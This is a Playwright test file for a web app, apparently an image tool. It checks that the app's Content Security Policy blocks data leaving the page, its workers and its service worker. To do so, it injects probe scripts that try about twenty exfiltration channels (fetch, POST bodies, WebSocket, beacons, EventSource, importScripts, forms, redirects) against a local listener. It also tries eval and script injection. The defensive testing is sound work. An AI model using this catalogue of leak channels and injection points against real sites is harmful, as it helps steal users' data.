import { readFileSync } from 'node:fs'
import { type Page, test as plain } from '@playwright/test'
import { samplePath } from '../fixtures/goldens.ts'
import { App, expect, test } from './helpers/app.ts'
import { headersFromFile } from './helpers/hostHeaders.ts'
import { type HostWays, type Served, serve, serveDist } from './helpers/serveDist.ts'

plain.use({ serviceWorkers: 'allow' })

/** Ways out that exist in every context, each a call of `to`, which gives the address that reports it. */
const everywhere = {
  fetch: "fetch(to('fetch'))",
  post: "fetch(to('post'), { method: 'POST', mode: 'no-cors', body: 'a picture' })",
  socket: "settled(new WebSocket(to('socket').replace('http', 'ws')), 'open', 'error')",
  cache: "caches.open('probe').then((cache) => cache.add(to('cache')))",
  all: "caches.open('probe').then((cache) => cache.addAll([to('all')]))",
  request: "fetch(new Request(to('request')))",
  // A file of the own site that redirects to another one.
  redirect: "fetch(new URL(location.href).origin + '/away/' + id + '/redirect')",
  font: "new FontFace('probe', 'url(' + to('font') + ')').load()",
}

const inPagesAndWorkers = {
  xhr: "new Promise((done) => { const request = new XMLHttpRequest(); request.onloadend = done; request.open('GET', to('xhr')); request.send() })",
  events: "settled(new EventSource(to('events')), 'open', 'error')",
  import: "import(to('import'))",
  worker:
    "settled(new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to('worker')) + ').catch(() => {}).then(() => postMessage(0))'], { type: 'text/javascript' }))), 'message', 'error')",
}

const inPages = {
  beacon: "navigator.sendBeacon(to('beacon'), 'a picture')",
  image: "settled(Object.assign(new Image(), { src: to('image') }), 'load', 'error')",
  style: "document.documentElement.style.backgroundImage = 'url(' + to('style') + ')'",
  sheet: "added('link', { rel: 'stylesheet', href: to('sheet') })",
  script: "added('script', { src: to('script') })",
  frame: "added('iframe', { src: to('frame') })",
  form: "added('iframe', { name: 'probe', src: './icons/heatlens.svg' }).then(() => Object.assign(document.head.appendChild(document.createElement('form')), { action: to('form'), target: 'probe' }).submit())",
}

const inServiceWorkers = {
  events: inPagesAndWorkers.events,
  scripts: "importScripts(to('scripts'))",
}

const places = {
  page: { file: /^\/assets\/index-[^/]*\.js$/, ways: { ...everywhere, ...inPagesAndWorkers, ...inPages } },
  explainer: { file: /^\/assets\/explainer\.worker-/, ways: { ...everywhere, ...inPagesAndWorkers } },
  serviceWorker: { file: /^\/serviceWorker\.js$/, ways: { ...everywhere, ...inServiceWorkers } },
  imageWorker: { file: /^\/assets\/image\.worker-/, ways: { ...everywhere, ...inPagesAndWorkers } },
}

type PlaceId = keyof typeof places

/** Code that tries all ways out of a context, and reports to its own site once all are done. */
const probes = (id: PlaceId, listener: string) => `;(async () => {
  const id = '${id}'
  const to = (name) => '${listener}/' + id + '/' + name
  const settled = (one, ...events) => new Promise((done) => events.forEach((name) => one.addEventListener(name, done)))
  const added = (tag, properties) => {
    const one = Object.assign(document.createElement(tag), properties)
    const end = settled(one, 'load', 'error')
    document.head.append(one)
    return end
  }
  const tries = [${Object.values(places[id].ways).map((way) => `async () => ${way}`)}]
  // Under the policy, some throw, and others never report anything.
  const soon = new Promise((done) => setTimeout(done, 2000))
  await Promise.race([Promise.allSettled(tries.map((way) => way())), soon])
  await fetch(new URL(location.href).origin + '/tried/${id}').catch(() => {})
})();`

/** A page without its policies and without its first script's restrictions. */
const withoutPolicy = (html: string) =>
  html.replaceAll(/<meta http-equiv="Content-Security-Policy"[^>]*>/g, '').replace(/<script>[\s\S]*?<\/script>/, '')

const servers: Served[] = []
plain.afterEach(() => {
  for (const server of servers.splice(0)) server.stop()
})

/** Opens the app with probes in all contexts, on such a host; gives the requests that got out. */
async function probe(page: Page, ways: HostWays, isOpen = false): Promise<Set<string>> {
  const arrived = new Set<string>()
  const tried = new Set<string>()
  // It allows all origins, so that only the policy can block. A socket's handshake arrives as an upgrade.
  const listener = await serve((request, response) => {
    arrived.add((request.url ?? '').slice(1).replace('?', ''))
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end()
  })
  const change = (path: string, text: string) => {
    const id = (Object.keys(places) as PlaceId[]).find((one) => places[one].file.test(path))
    // The restrictions of the service worker are in its script, not in a policy.
    if (id) return `${isOpen && id === 'serviceWorker' ? '' : text}\n${probes(id, listener.address)}`
    return isOpen ? withoutPolicy(text) : text
  }
  const headers = (path: string) => {
    const [, id] = /^\/tried\/(\w+)$/.exec(path) ?? []
    if (id !== undefined) tried.add(id)
    return ways.headers?.(path) ?? {}
  }
  const leadsTo = (path: string) => (path.startsWith('/away/') ? path.replace('/away', listener.address) : undefined)
  const site = await serveDist({ ...ways, change, headers, leadsTo })
  servers.push(listener, site)
  const app = new App(page)
  await app.start(site.address)
  await app.choose(samplePath('cat'))
  await app.expectState('done', 'cat.png')
  await expect.poll(() => [...tried].sort(), 'places that tried').toEqual(Object.keys(places).sort())
  return arrived
}

const hosts: Record<string, HostWays> = {
  'that sends no headers': {},
  'that sends those of _headers': { headers: headersFromFile() },
}

for (const [host, ways] of Object.entries(hosts)) {
  plain(`nothing gets out of the page, its workers and its service worker on a host ${host}`, async ({ page }) => {
    expect([...(await probe(page, ways))]).toEqual([])
  })
}

plain('without the policy, all of it would get out', async ({ page }) => {
  const arrived = await probe(page, {}, true)
  const all = (Object.keys(places) as PlaceId[]).flatMap((id) =>
    Object.keys(places[id].ways).map((way) => `${id}/${way}`),
  )
  await expect.poll(() => [...arrived].sort()).toEqual(all.sort())
})

const readScript = (name: string) => readFileSync(new URL(`../dist/assets/${name}`, import.meta.url), 'utf8')

/** The scripts of the built page and all their static and dynamic imports; not those of its workers. */
function pageScripts(): string[] {
  const html = readFileSync(new URL('../dist/index.html', import.meta.url), 'utf8')
  const found = new Set([...html.matchAll(/assets\/([\w.-]+\.js)/g)].map(([, name]) => name as string))
  for (const name of found) {
    for (const [, imported] of readScript(name).matchAll(/["'`]\.\/([\w.-]+\.js)["'`]/g)) {
      if (imported && !imported.includes('worker')) found.add(imported)
    }
  }
  return [...found]
}

test('the page holds no TensorFlow.js, and the policy is on', async ({ app, page }) => {
  await app.start()
  const scripts = pageScripts()
  expect(scripts.length).toBeGreaterThan(5)
  const holding = scripts.filter((name) => /WebGLRenderingContext|webgl2|registerKernel/.test(readScript(name)))
  expect(holding).toEqual([])
  const policies = page.locator('meta[http-equiv="Content-Security-Policy"]')
  await expect(policies.first()).toHaveAttribute('content', /^default-src 'none';.* connect-src 'self';/)
  // The only document that may be framed: public/fetch.html explains why.
  await expect(policies.last()).toHaveAttribute('content', /^frame-src http:\/\/localhost:\d+\/fetch\.html$/)
})

/** Run by the page's own script: the policy does not apply to a test's code. */
function tryPower() {
  const tries: Record<string, () => unknown> = {
    markup: () => {
      document.createElement('p').innerHTML = '<b>bold</b>'
    },
    script: () => {
      document.createElement('script').src = 'https://other.test/a.js'
    },
    worker: () => new Worker('./assets/other.js'),
    function: () => new Function('return 1')(),
    // biome-ignore lint/security/noGlobalEval: it is refused.
    eval: () => globalThis.eval('1'),
  }
  const isThrough = ([, attempt]: [string, () => unknown]) => {
    try {
      attempt()
      return true
    } catch {
      return false
    }
  }
  const through = Object.entries(tries).filter(isThrough)
  Object.assign(globalThis, {
    power: { rtc: 'RTCPeerConnection' in globalThis, through: through.map(([name]) => name) },
  })
}

plain('the page has no WebRTC at hand, and no text becomes markup or a script', async ({ page }) => {
  const powerOn = async (isOpen: boolean) => {
    const site = await serveDist({
      change: (path, text) =>
        places.page.file.test(path) ? `${text};(${tryPower})()` : isOpen ? withoutPolicy(text) : text,
    })
    await new App(page).start(site.address)
    site.stop()
    return page.evaluate(() => (globalThis as unknown as { power: unknown }).power)
  }
  expect(await powerOn(false)).toEqual({ rtc: false, through: [] })
  // The control: without the policies, everything gets through.
  const through = ['markup', 'script', 'worker', 'function', 'eval']
  expect(await powerOn(true)).toEqual({ rtc: true, through })
})
